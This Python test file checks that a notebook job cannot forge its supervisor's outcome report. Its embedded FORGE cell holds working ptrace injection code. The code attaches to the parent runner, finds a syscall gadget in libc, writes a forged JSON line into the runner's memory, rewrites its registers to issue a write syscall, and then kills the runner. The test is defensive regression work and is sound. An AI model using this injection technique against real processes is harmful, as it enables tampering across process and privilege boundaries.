"""A local job's own notebook code against the root supervisor's report (attack review of issue 16,
F1): its kernel (the person's account, a child of the runner) PTRACE_ATTACHed the runner and made it
write a forged report ("succeeded", failed_cell 2**70) into the supervisor's pipe, then killed it;
the supervisor took it, and the out-of-range cell then failed every scheduler tick for everybody.
Now the runner is non-dumpable before papermill starts the kernel, so the attach is refused, and the
supervisor bounds the report and lets its own facts win. Also: the kernel talks over unix sockets in a
0700 folder of the person's, never TCP. Real accounts, supervisor, runner and cgroup (conftest.py)."""

from __future__ import annotations

import json
import os
from pathlib import Path

from .conftest import finished, job, notebook, person, resources

# x86-64 syscall registers; the cell prints why the attack failed instead of failing itself, so that the
# job's own failing cell (1 / 0, after it) shows the supervisor kept the true outcome
FORGE = r"""
import ctypes, os, json, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                  "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
runner, fd = os.getppid(), int(os.environ.get("CAMPUSHUB_JOB_REPORT_FD", "4"))
line = (json.dumps({"state": "succeeded", "failed_cell": 2**70, "error": "all fine, trust me"}) + "\n").encode()
attached = libc.ptrace(16, runner, None, None)                        # PTRACE_ATTACH
print("ATTACH", attached, ctypes.get_errno())
try:
    mem = open(f"/proc/{runner}/mem", "r+b", buffering=0)
    print("MEM opened")
except OSError as e:
    mem = None
    print("MEM refused", e.errno)
if attached == 0 and mem is not None:
    os.waitpid(runner, 0x40000000)                                    # __WALL
    gadget = None
    for m in open(f"/proc/{runner}/maps"):
        a, perms = m.split()[:2]
        if "x" in perms and "libc" in m:
            lo, hi = (int(x, 16) for x in a.split("-"))
            mem.seek(lo); gadget = lo + mem.read(hi - lo).index(b"\x0f\x05"); break
    regs = Regs(); libc.ptrace(12, runner, None, ctypes.byref(regs))  # GETREGS
    buf = regs.rsp - 8192
    mem.seek(buf); mem.write(line)
    regs.rip, regs.rax, regs.orig_rax = gadget, 1, 2**64 - 1          # write(fd, buf, len)
    regs.rdi, regs.rsi, regs.rdx = fd, buf, len(line)
    libc.ptrace(13, runner, None, ctypes.byref(regs))                 # SETREGS
    for _ in range(2):
        libc.ptrace(24, runner, None, None); os.waitpid(runner, 0x40000000)
    os.kill(runner, signal.SIGKILL)
"""
SOCKETS = r"""
import ipykernel, json, os, stat
f = ipykernel.get_connection_file(); info = json.load(open(f)); folder = os.stat(os.path.dirname(f))
print("KERNEL", json.dumps({"transport": info["transport"], "ip": info["ip"], "folder": os.path.dirname(f),
                            "mode": stat.S_IMODE(folder.st_mode), "uid": folder.st_uid}))
"""


def test_notebook_code_cannot_forge_the_supervisors_report(backend, people):
    mallory = people("mallory")
    nb = notebook(mallory, "forge.ipynb", FORGE, SOCKETS, "1 / 0")
    j = job("mallory", nb)
    j.handle = backend.start(j, resources(), person("mallory"))
    outcome = finished(backend, j)
    log = (Path(mallory.pw_dir) / "jobs" / j.id / "log.txt").read_text()
    # the true outcome: the job's own failing cell, 2 (before: "succeeded", failed_cell 2**70)
    assert outcome.state == "failed" and outcome.failed_cell == 2, (outcome, log[-2000:])
    assert "ZeroDivisionError" in outcome.error and outcome.exit_code == 1
    # EPERM; EACCES, or ENOENT where the job's /proc (hidepid) hides a process no longer the person's
    assert "ATTACH -1 1\n" in log and ("MEM refused 13" in log or "MEM refused 2" in log), log
    kernel = json.loads(log.split("KERNEL ", 1)[1].splitlines()[0])
    assert kernel["transport"] == "ipc" and kernel["ip"].startswith(kernel["folder"] + "/")
    assert kernel["mode"] & 0o777 == 0o700 and kernel["uid"] == mallory.pw_uid
    assert not os.path.exists(kernel["folder"])  # (the job's private /tmp is gone anyway)
